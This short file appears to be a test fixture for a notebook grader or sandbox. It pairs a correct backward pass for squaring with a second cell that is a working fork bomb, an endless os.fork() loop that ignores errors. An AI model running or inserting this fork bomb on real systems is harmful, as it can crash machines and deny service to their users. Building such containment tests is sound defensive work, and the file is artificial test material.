# A right answer, and a cell that forks without end.
# loses: nothing
# %% square
def square_backward(x, dy):
    return 2 * x * dy
# %% own
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
